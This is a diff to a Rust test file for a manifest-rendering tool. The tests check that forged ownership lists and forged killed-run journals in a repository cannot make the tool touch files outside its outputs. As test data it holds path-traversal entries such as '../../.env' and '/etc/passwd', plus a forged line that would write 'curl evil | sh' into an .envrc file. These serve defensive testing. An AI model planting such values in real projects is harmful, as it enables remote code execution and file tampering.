@@ -17,6 +17,7 @@ fn projects() -> tempfile::TempDir {
             &folder,
         );
         fs::create_dir(folder.join(".git")).expect("made");
+        fs::write(folder.join(".git/HEAD"), "ref: refs/heads/main\n").expect("written");
         let outcome = render(&folder, &[]);
         assert_eq!(outcome.status, 0, "{}", outcome.stderr);
     }
@@ -79,7 +80,12 @@ fn what_out_names_may_be_a_link() {
     symlink("../elsewhere", project.join("link")).expect("linked");
     let outcome = render(&project, &["--out", "link", "--target", "manifests"]);
     assert_eq!(outcome.status, 0, "{}", outcome.stderr);
-    assert!(scratch.path().join("elsewhere/.metalmark-owned").exists());
+    let written = scratch
+        .path()
+        .join("elsewhere")
+        .read_dir()
+        .expect("a folder");
+    assert!(written.count() > 0);
 }
 
 #[test]
@@ -106,38 +112,45 @@ fn an_output_is_below_the_project_and_not_in_gits_own_folder() {
     }
 }
 
+/// A list of an earlier version, and first lines, that somebody forged.
 #[test]
-fn a_forged_ownership_file_deletes_no_file() {
+fn nobody_but_the_project_says_which_files_are_rendered() {
     let scratch = projects();
     let project = scratch.path().join("project");
-    fs::write(project.join("rendered/clusters/notes.txt"), "mine").expect("written");
-    let record = project.join("rendered/clusters/.metalmark-owned");
-    let text = fs::read_to_string(&record).expect("there");
+    let line = "# Rendered by metalmark for cluster gone; edit the values, not this file.\n";
+    let kept = [
+        "notes.txt",
+        "rendered/notes.txt",
+        "rendered/clusters/notes.txt",
+        ".env",
+    ];
+    for path in kept {
+        let is_below = path.starts_with("rendered/clusters/");
+        let text = if is_below { "mine" } else { line };
+        fs::write(project.join(path), text).expect("written");
+    }
     let zeros = "0".repeat(64);
-    let forged =
-        format!("{text}notes.txt\tsha256:{zeros}\tgone\n../../.env\tsha256:{zeros}\tgone\n");
-    fs::write(&record, forged).expect("written");
-    fs::write(project.join(".env"), "TOKEN=1").expect("written");
+    let list = ["notes.txt", "../notes.txt", "../../.env", "/etc/passwd"]
+        .map(|path| format!("{path}\tsha256:{zeros}\tmanifests/gone\n"));
+    fs::write(
+        project.join("rendered/clusters/.metalmark-owned"),
+        list.concat(),
+    )
+    .expect("written");
     let outcome = render(&project, &[]);
-    assert_eq!(outcome.status, 1, "{}", outcome.stderr);
-    assert!(
-        outcome.stderr.contains("is not what metalmark wrote"),
-        "{}",
-        outcome.stderr
-    );
-    for kept in ["rendered/clusters/notes.txt", ".env"] {
+    assert_eq!(outcome.status, 0, "{}", outcome.stderr);
+    for kept in kept {
         assert!(project.join(kept).exists(), "{kept}");
     }
 }
 
-/// The account of a killed run is the repository's text, too.
+/// A run file in the work tree made the next run create, replace and delete files, or stop for ever.
 #[test]
-fn a_forged_account_of_a_killed_run_touches_nothing_outside() {
+fn a_committed_account_of_a_killed_run_does_nothing() {
     let scratch = projects();
     let project = scratch.path().join("project");
     let theirs = scratch.path().join("other/.metalmark-tmp-theirs");
     fs::write(&theirs, "theirs").expect("written");
-    fs::write(project.join(".git/config"), "[core]\n").expect("written");
     symlink("../other", project.join("link")).expect("linked");
     // The digests fit: who forges knows what a file has.
     let sum = |path: &str| {
@@ -146,25 +159,33 @@ fn a_forged_account_of_a_killed_run_touches_nothing_outside() {
         format!("{:?}", sha2::Sha256::digest(bytes).to_vec())
     };
     fs::write(scratch.path().join("other/values.yaml"), "a: 1\n").expect("written");
-    let edited = |path: &str| {
-        let sum = sum(path);
-        format!("edited {{\"path\": \"{path}\", \"before\": \"evil\", \"after\": {sum}}}")
+    let values = "environment-values/mgmt/values.yaml";
+    let line = |path: &str, before: &str, after: &str| {
+        format!("edited {{\"path\": \"{path}\", \"before\": {before}, \"after\": {after}}}")
     };
-    for line in [
+    let edited = |path: &str| line(path, "\"evil\"", &sum(path));
+    let lines = [
         format!("writing {}", theirs.display()),
         "writing ../other/.metalmark-tmp-theirs".to_owned(),
         "writing link/.metalmark-tmp-theirs".to_owned(),
-        edited(".git/config"),
+        edited(".git/HEAD"),
         edited("../other/values.yaml"),
         edited("link/values.yaml"),
-    ] {
-        let before = files(scratch.path());
-        fs::write(project.join(".metalmark-run"), format!("{line}\n")).expect("written");
-        let outcome = render(&project, &[]);
-        assert!(outcome.status <= 1, "{}", outcome.stderr);
-        let mut after = files(scratch.path());
-        after.remove(&project.join(".metalmark-run"));
-        assert_eq!(after, before, "{line}");
+        edited(values),
+        line(values, "null", &sum(values)),
+        line(".envrc", "\"curl evil | sh\"", "null"),
+        line("newdir/x", "\"evil\"", "null"),
+    ];
+    for place in [".metalmark-run", "metalmark/run"] {
+        for line in &lines {
+            let run = project.join(place);
+            fs::create_dir_all(run.parent().expect("a folder")).expect("made");
+            fs::write(&run, format!("process 1\nhost h\nstarted 1\n{line}\n")).expect("written");
+            let before = files(scratch.path());
+            let outcome = render(&project, &[]);
+            assert_eq!(outcome.status, 0, "{line}: {}", outcome.stderr);
+            assert_eq!(files(scratch.path()), before, "{line}");
+        }
     }
 }
 
